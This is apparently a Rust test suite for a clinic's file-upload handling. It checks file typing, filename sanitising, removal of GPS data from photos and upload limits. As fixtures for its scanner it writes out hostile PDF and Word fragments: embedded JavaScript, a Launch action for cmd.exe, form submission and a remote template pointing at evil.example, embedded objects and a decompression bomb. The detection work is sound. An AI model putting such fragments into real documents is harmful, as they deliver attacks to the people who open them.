//! What is taken, and as what.

use uploads::documents::{FileKind, FileWarning};

use super::fixture::{Fixture, sent};
use super::made;

#[tokio::test]
async fn a_file_is_what_its_bytes_say() {
    let clinic = Fixture::open().await;
    for (name, bytes, kind, kept) in [
        (
            "Blood test.pdf",
            made::pdf(),
            FileKind::Pdf,
            "Blood test.pdf",
        ),
        ("letter.docx", made::docx(), FileKind::Docx, "letter.docx"),
        ("old.doc", made::doc(), FileKind::Doc, "old.doc"),
        (
            "really word.pdf",
            made::docx(),
            FileKind::Docx,
            "really word.docx",
        ),
        (
            "../../x\u{202e}fdp.exe",
            made::pdf(),
            FileKind::Pdf,
            "xfdp.pdf",
        ),
    ] {
        let taken = clinic.take(name, bytes.clone()).await.unwrap();
        assert_eq!((taken.kind, taken.name.as_str()), (kind, kept));
        assert_eq!(taken.bytes, bytes);
        assert_eq!(taken.notes, [], "{name}");
    }
}

#[tokio::test]
async fn what_a_pdf_does_besides_showing_pages_is_noted() {
    let clinic = Fixture::open().await;
    let script: &[u8] = b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>";
    let hidden = made::packed(b"4 0 <</S/Launch/F(cmd.exe)>>");
    let escaped: &[u8] = b"<</S/#4aavaScript>>";
    let attached: &[u8] = b"<</Names<</EmbeddedFiles 9 0 R>>>>";
    let sends: &[u8] = b"<</S/SubmitForm/F(https://evil.example)>>";
    let odd: &[u8] = b"<</Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]>>\nstream\nabc\nendstream";
    let cut: &[u8] = b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\n\x78\xda\x01\nendstream";
    let picture: &[u8] = b"<</Subtype/Image>>\nstream\n/JavaScript /Launch (\nendstream";
    for (object, notes) in [
        (script, vec![FileWarning::Script]),
        (&hidden, vec![FileWarning::Launch]),
        (escaped, vec![FileWarning::Script]),
        (attached, vec![FileWarning::Attachment]),
        (sends, vec![FileWarning::Outside]),
        (odd, vec![FileWarning::Unread]),
        (cut, vec![FileWarning::Unread]),
        (picture, vec![]),
    ] {
        let taken = clinic.take("a.pdf", made::pdf_with(&[object], "")).await;
        assert_eq!(taken.unwrap().notes, notes);
    }
    // 100 MB of nothing in a packed object: read as far as it is worth, and said so.
    let swelling = made::packed(&vec![b' '; 100 << 20]);
    let taken = clinic.take("a.pdf", made::pdf_with(&[&swelling], "")).await;
    assert_eq!(taken.unwrap().notes, [FileWarning::Unread]);
}

#[tokio::test]
async fn what_a_word_file_brings_along_is_noted() {
    let clinic = Fixture::open().await;
    let template: &[u8] = b"<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
    for (more, note) in [
        (
            ("word/embeddings/oleObject1.bin", &b"x"[..]),
            FileWarning::Attachment,
        ),
        (("word/activeX/activeX1.xml", b"x"), FileWarning::Script),
        (
            ("word/_rels/settings.xml.rels", template),
            FileWarning::Outside,
        ),
    ] {
        let taken = clinic.take("a.docx", made::docx_with(&[more])).await;
        assert_eq!(taken.unwrap().notes, [note]);
    }
    let doc = made::compound(&[("/WordDocument", &made::word(0)), ("/ObjectPool/", b"")]);
    let taken = clinic.take("a.doc", doc).await.unwrap();
    assert_eq!(taken.notes, [FileWarning::Attachment]);
}

#[tokio::test]
async fn photos_become_a_pdf_that_says_nothing_of_the_camera() {
    let clinic = Fixture::open().await;
    for (name, photo) in [
        ("IMG_1.JPG", made::jpeg(60, 40)),
        ("b.png", made::png(40, 60)),
    ] {
        let taken = clinic.take(name, photo).await.unwrap();
        assert_eq!(taken.kind, FileKind::Pdf);
        assert!(taken.name.ends_with(".pdf") && taken.bytes.starts_with(b"%PDF-"));
        assert!(!taken.bytes.windows(3).any(|three| three == b"GPS"));
        // What we make is what we take.
        assert_eq!(clinic.take("a.pdf", taken.bytes).await.unwrap().notes, []);
    }
    let papers = clinic
        .files
        .accept_file(sent("a.jpg", made::jpeg(60, 40)), false)
        .await;
    assert_eq!(papers.unwrap_err().code, "photo_not_taken");
}

#[tokio::test]
async fn photos_of_one_form_are_pages_of_one_pdf() {
    let clinic = Fixture::open().await;
    let chosen = vec![
        sent("page one.jpg", made::jpeg(60, 40)),
        sent("letter.docx", made::docx()),
        sent("page two.png", made::png(40, 60)),
        sent("broken.jpg", made::jpeg(60, 40)[..80].to_vec()),
        sent("nothing.pdf", Vec::new()),
    ];
    let answers = clinic.files.accept_files(chosen, true).await.unwrap();
    let told: Vec<_> = answers
        .iter()
        .map(|answer| match answer {
            Ok(taken) => taken.name.as_str(),
            Err(problem) => problem.code.as_str(),
        })
        .collect();
    assert_eq!(
        told,
        ["letter.docx", "file_broken", "empty_file", "page one.pdf"]
    );
    let pages = &answers[3].as_ref().unwrap().bytes;
    let count = pages
        .windows(10)
        .filter(|ten| *ten == b"/DCTDecode")
        .count();
    assert_eq!(count, 2);
}

#[tokio::test]
async fn two_hundred_files_are_too_many_and_none_too_few() {
    let clinic = Fixture::open().await;
    let many = (0..200).map(|_| sent("a.pdf", made::pdf())).collect();
    let refused = clinic.files.accept_files(many, true).await.unwrap_err();
    assert_eq!(
        (refused.status, refused.code.as_str()),
        (422, "too_many_files")
    );
    let none = clinic
        .files
        .accept_files(Vec::new(), true)
        .await
        .unwrap_err();
    assert_eq!(none.message, "Select a report");
}
